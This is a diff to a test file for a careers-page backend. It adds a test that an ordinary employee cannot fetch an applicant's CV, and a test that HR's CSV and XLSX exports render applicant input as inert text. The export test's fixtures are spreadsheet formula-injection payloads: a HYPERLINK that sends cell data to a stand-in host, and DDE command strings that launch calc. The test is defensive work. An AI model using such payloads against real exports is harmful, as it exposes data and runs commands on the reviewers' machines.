@@ -1,3 +1,5 @@
+import ExcelJS from 'exceljs';
+import Papa from 'papaparse';
 import { beforeAll, expect, it } from 'vitest';
 import type { CareersOpenings, CareersReceipt } from '../../src/shared/api/careers';
 import type { OutboxMessage } from '../../src/shared/api/mail';
@@ -67,6 +69,7 @@ describeOnEachDatabase('the careers page', (current) => {
     cv = PDF,
     type = 'application/pdf',
     org = 'acme',
+    ip = '198.51.100.7',
   ) => {
     const upload = multipart('liza-domingo-cv.pdf', type, cv, {
       part: 'cv',
@@ -75,7 +78,7 @@ describeOnEachDatabase('the careers page', (current) => {
     return caller.call('POST', `/api/careers/${org}/applications`, {
       body: upload.payload,
       headers: { 'content-type': upload.contentType },
-      ip: '198.51.100.7',
+      ip,
     });
   };
 
@@ -128,8 +131,12 @@ describeOnEachDatabase('the careers page', (current) => {
       cv: { name: 'liza-domingo-cv.pdf', type: 'application/pdf' },
       notes: 'Four years of payroll in a BPO.',
     });
-    const cv = await hr.call('GET', `/api/files/${(applicant?.data.cv as { id: string }).id}`);
+    // HR reads the CV through the applicant record; a co-worker who learnt its id does not.
+    const cvUrl = `/api/files/${(applicant?.data.cv as { id: string }).id}`;
+    const cv = await hr.call('GET', cvUrl);
     expect(cv.rawPayload.equals(PDF)).toBe(true);
+    const employee = await signIn(current().app, 'acme', 'employee');
+    expect((await employee.call('GET', cvUrl)).statusCode).toBe(404);
 
     const admin = await signIn(current().app, 'acme', 'admin');
     const outbox = (await admin.call('GET', '/api/mail/outbox?limit=50')).json<{
@@ -220,6 +227,57 @@ describeOnEachDatabase('the careers page', (current) => {
       })
     ).json<RecordListResponse>();
     expect(theirs.total).toBe(0);
+  });
+
+  it("writes what an applicant typed into HR's exports as text, never as a live formula", async () => {
+    const typed = {
+      firstName: '=HYPERLINK("https://evil.example/?d="&A2,"CV")',
+      lastName: "@SUM(1+1)*cmd|' /C calc'!A0",
+      notes: "-2+3+cmd|' /C calc'!A0",
+    };
+    const email = 'formula@example.com';
+    const filed = await apply(
+      visitor,
+      { ...answers(openingId, email), ...typed },
+      PDF,
+      'application/pdf',
+      'acme',
+      '198.51.100.8',
+    );
+    expect(filed.statusCode, filed.body).toBe(201);
+    const exported = (format: 'csv' | 'xlsx') =>
+      hr.call('POST', '/api/records/export', {
+        body: { form_id: 'ats-applicant', format, q: email },
+      });
+
+    const csv = await exported('csv');
+    expect(csv.statusCode, csv.body).toBe(200);
+    const [header, row] = Papa.parse<string[]>(csv.body.replace(/^\ufeff/, ''), {
+      skipEmptyLines: true,
+    }).data;
+    const cell = (title: string) => row?.[header?.indexOf(title) ?? -1];
+    // A leading apostrophe makes a spreadsheet show the text instead of running it.
+    expect(cell('First name')).toBe(`'${typed.firstName}`);
+    expect(cell('Last name')).toBe(`'${typed.lastName}`);
+    expect(cell('Notes')).toBe(`'${typed.notes}`);
+    expect(cell('Email')).toBe(email);
+
+    const xlsx = await exported('xlsx');
+    expect(xlsx.statusCode).toBe(200);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(xlsx.rawPayload as never);
+    const sheet = workbook.worksheets[0]!;
+    const titles = sheet.getRow(1).values as unknown[];
+    for (const [title, text] of [
+      ['First name', typed.firstName],
+      ['Last name', typed.lastName],
+      ['Notes', typed.notes],
+    ] as const) {
+      const written = sheet.getRow(2).getCell(titles.indexOf(title));
+      // A workbook's cell is typed: text stays text, exactly as typed.
+      expect(written.type, title).toBe(ExcelJS.ValueType.String);
+      expect(written.value, title).toBe(text);
+    }
   });
 
   it('takes a few applications an hour from one address', async () => {
